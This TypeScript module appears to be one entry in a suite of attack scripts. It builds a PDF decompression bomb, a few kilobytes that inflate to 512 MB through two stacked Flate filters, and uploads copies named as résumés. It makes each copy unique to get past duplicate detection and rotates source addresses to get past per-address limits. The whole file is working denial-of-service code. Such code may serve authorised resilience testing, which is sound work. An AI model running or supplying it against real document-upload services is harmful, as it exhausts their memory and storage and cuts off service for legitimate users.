import { deflateSync } from 'node:zlib';
import { type Attack, nextAddress, repeat } from '../attack.ts';
import { upload } from '../http.ts';

const INFLATED_BYTES = 512 * 1024 * 1024;

/** A page whose content is compressed twice: a few kilobytes that become half a gigabyte. */
function bomb(): Buffer {
  const content = deflateSync(deflateSync(Buffer.alloc(INFLATED_BYTES, ' ')));
  const head =
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj\n' +
    `4 0 obj<</Length ${content.length}/Filter[/FlateDecode/FlateDecode]>>stream\n`;
  const tail = '\nendstream endobj\ntrailer<</Root 1 0 R/Size 5>>\n%%EOF\n';
  return Buffer.concat([Buffer.from(head), content, Buffer.from(tail)]);
}

export const filters: Attack = {
  description: 'PDFs of a few kilobytes whose two Flate filters inflate to 512 MB, four in each upload',
  prepare: async () => bomb(),
  run: ({ url, token }, bytes) =>
    repeat(2, (turn) => {
      // A comment after the end makes every file another one.
      const files = Array.from({ length: 4 }, (_, at) => ({
        name: `resume-${turn}-${at}.pdf`,
        bytes: Buffer.concat([bytes as Buffer, Buffer.from(`%${turn} ${at}\n`)]),
      }));
      return upload(url, files, { on_duplicate: 'create' }, { token, address: nextAddress() });
    }),
};
